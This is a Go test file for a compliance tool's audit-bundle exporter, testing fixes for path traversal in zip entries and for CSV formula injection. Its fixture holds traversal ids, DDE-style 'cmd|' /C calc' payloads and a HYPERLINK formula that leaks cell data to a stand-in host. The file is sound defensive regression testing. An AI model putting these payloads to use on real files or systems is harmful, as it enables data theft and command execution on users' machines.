package auditpack

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"ward/internal/catalog"
	"ward/internal/date"
	"ward/internal/workspace"
)

// hostile is a workspace as an older database might hold it, before ids
// were bounded: an evidence id that climbs out of a folder, and text
// built to run as a spreadsheet formula.
func hostile() (*workspace.Workspace, map[string][]byte) {
	body := []byte("scan results\n")
	sum := sha256.Sum256(body)
	sha := hex.EncodeToString(sum[:])
	ws := &workspace.Workspace{
		Organization: workspace.Organization{Name: "Acme", Slug: "acme", Roles: []string{workspace.RoleBusinessAssociate}},
		Controls:     []workspace.Control{{ID: "vulnerability-scanning", Status: "implemented", Frequency: "monthly", Owner: "@SUM(1+1)*cmd|' /C calc'!A0"}},
		Evidence: []workspace.Evidence{
			{ID: "../../../../tmp/evil", Control: "vulnerability-scanning", Collected: date.MustParse("2027-05-01"), File: "evidence/../../x/..", SHA256: sha, Size: int64(len(body)),
				Note: `=HYPERLINK("http://evil.example/?leak="&A1,"open")`, AddedBy: "+cmd|' /C calc'!A0"},
			{ID: `..\..\win`, Control: "vulnerability-scanning", Collected: date.MustParse("2027-05-02"), File: "evidence/scan.txt", SHA256: sha, Size: int64(len(body)),
				Note: "\t=1+1"},
		},
	}
	return ws, map[string][]byte{sha: body}
}

// TestBundleEntriesStayInside is issue 20's finding 13: the evidence
// bundle held entries like files/../../… built from unchecked ids.
func TestBundleEntriesStayInside(t *testing.T) {
	ws, blobs := hostile()
	m := BuildManifest(ws, catalog.Default(), Filter{}, date.MustParse("2027-06-01"))
	var buf bytes.Buffer
	err := WriteBundle(&buf, m, func(sha string) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(blobs[sha])), nil })
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	files := 0
	for _, f := range zr.File {
		if !filepath.IsLocal(f.Name) || strings.Contains(f.Name, "..") || strings.Contains(f.Name, `\`) {
			t.Errorf("zip entry %q leaves the bundle's folder", f.Name)
		}
		if strings.HasPrefix(f.Name, "files/") {
			files++
		}
	}
	if files != 2 {
		t.Errorf("%d evidence files in the bundle, want both items", files)
	}
}

// TestCSVsAreSafeToOpen is finding 14: the auditor's request-list CSV
// and the bundle's manifest.csv wrote =HYPERLINK(...) and @... cells as
// they were. Read back with an independent CSV reader, every cell that a
// spreadsheet would take for a formula starts with a quote.
func TestCSVsAreSafeToOpen(t *testing.T) {
	ws, _ := hostile()
	check := func(what string, data []byte) {
		t.Helper()
		recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		seen := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula", what, cell)
				}
				if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "cmd|") {
					seen++
				}
			}
		}
		if seen == 0 {
			t.Errorf("%s: the hostile values are not in the file at all", what)
		}
	}
	var mc bytes.Buffer
	if err := WriteManifestCSV(&mc, BuildManifest(ws, catalog.Default(), Filter{}, date.MustParse("2027-06-01"))); err != nil {
		t.Fatal(err)
	}
	check("manifest.csv", mc.Bytes())
	rl, err := BuildRequestList(ws, catalog.Default(), "soc2", date.MustParse("2027-06-01"))
	if err != nil {
		t.Fatal(err)
	}
	var rc bytes.Buffer
	if err := WriteRequestCSV(&rc, rl); err != nil {
		t.Fatal(err)
	}
	check("request list CSV", rc.Bytes())
}
